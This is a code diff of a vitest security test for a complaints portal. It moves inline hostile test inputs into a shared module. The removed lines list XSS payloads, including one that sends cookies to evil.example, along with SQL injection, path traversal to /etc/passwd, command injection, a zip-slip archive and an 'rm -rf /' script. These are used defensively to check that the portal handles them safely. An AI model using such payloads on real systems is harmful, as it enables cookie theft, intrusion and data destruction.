@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { type World, openWorld } from '#test/app.ts'
+import { HOSTILE_FILES, HOSTILE_TEXTS } from '#test/hostile.ts'
 import { begin, part } from '#test/resumable.ts'
 import { got } from '#test/steps.ts'
 import { PNG } from '#test/story.ts'
@@ -8,16 +9,11 @@ let w: World
 beforeAll(async () => { w = await openWorld({}, { puzzleBase: 1 }) })
 afterAll(() => w.close())
 
-const TEXTS = [
-  '<script>fetch("//evil.example/"+document.cookie)</script>', '"><img src=x onerror=hit(1)>', 'javascript:hit(2)', '<svg onload=hit(3)>', '{{constructor.constructor("hit(4)")()}}', `$${'{7*7}'}<%= 7*7 %>#{7*7}`, "'; drop table complaint.complaint; --", "1' or '1'='1",
-  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '$(id)`id`|id;id&&id', '*)(uid=*))(|(uid=*', '{"$gt":""}', '=cmd|\'/c calc\'!A0', '＝1＋1', 'a\r\nSet-Cookie: x=1', '\u202Ereversed\u2066', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', '👩‍👩‍👧‍👦🏳️‍🌈', '\u{1F468}\u200D', '\uFEFF', '田中さんにあげて下さい', 'ﷺ', '０１２', 'null', 'undefined', '__proto__', 'constructor', 'NaN', '1e309', '<!--#exec cmd="/bin/ls"-->', '%00%0d%0a', 'x'.repeat(19_000),
-]
-
 const from = (n: number) => ({ 'x-forwarded-for': `198.18.7.${n}` })
 
 describe('hostile words', () => {
   test('come through the portal as they are, byte for byte', async () => {
-    for (const [n, text] of TEXTS.entries()) {
+    for (const [n, text] of HOSTILE_TEXTS.entries()) {
       const told = await got(w.visitor.post<any>('/portal/complaints', { place: 'S01', name: text.slice(0, 60), phone: null, text, wants: text.slice(0, 3_000), locale: 'en' }, from(n)), 201)
       const seen = await w.visitor.get<any>(`/portal/complaints/${told.number}`, { 'x-case-code': told.code, ...from(n) })
       expect(String(seen.headers['content-type'])).toMatch(/^application\/json/)
@@ -38,7 +34,7 @@ describe('hostile words', () => {
   })
 
   test('as a code, a key, a place, a proof, they open nothing and break nothing', async () => {
-    for (const [n, text] of TEXTS.filter((t) => /^[\x20-\x7e]{1,60}$/.test(t)).entries()) {
+    for (const [n, text] of HOSTILE_TEXTS.filter((t) => /^[\x20-\x7e]{1,60}$/.test(t)).entries()) {
       const answers = await Promise.all([
         w.visitor.get<any>(`/portal/complaints/${encodeURIComponent(text)}`, { 'x-case-code': text, ...from(n) }), w.visitor.get<any>(`/portal?place=${encodeURIComponent(text)}&card=${encodeURIComponent(text)}`), w.visitor.get<any>(`/portal/manifest?place=${encodeURIComponent(text)}`),
         w.visitor.get<any>(`/portal/uploads/${encodeURIComponent(text)}`, { 'x-upload-key': text }), w.visitor.post<any>('/portal/codes', { token: text }, { ...from(n), 'x-proof': text }), w.visitor.post<any>('/portal/uploads', { name: text, bytes: 1, place: text }, from(n)),
@@ -53,13 +49,9 @@ describe('hostile files in parts', () => {
     const upload = await begin(w.visitor, '/portal/uploads', name, bytes.length)
     return part(w.visitor, '/portal/uploads', upload, 0, bytes)
   }
-  const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(26), Buffer.from('../../../../tmp/evil')])
 
   test('of kinds that run or unpack are refused with their name', async () => {
-    const bad: readonly (readonly [string, Buffer])[] = [
-      ['photo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>')], ['发票.png', Buffer.from('<html><script>hit()</script></html>')], ['a.zip', ZIP], ['run.exe', Buffer.from(`MZ${'\0'.repeat(200)}`, 'latin1')], ['a.txt', Buffer.from('#!/bin/sh\nrm -rf /')], ['a.html', Buffer.from('<!doctype html>')], ['a.pdf.js', Buffer.from('%PDF-1.7\n')],
-    ]
-    for (const [name, bytes] of bad) expect({ name, ...(await send(name, bytes)) }).toMatchObject({ name, status: 415, body: { title: expect.stringContaining(name), errors: [{ pointer: '#/file' }] } })
+    for (const [name, bytes] of HOSTILE_FILES) expect({ name, ...(await send(name, bytes)) }).toMatchObject({ name, status: 415, body: { title: expect.stringContaining(name), errors: [{ pointer: '#/file' }] } })
   })
 
   test('under names that mean something elsewhere are called by what is left of the name', async () => {
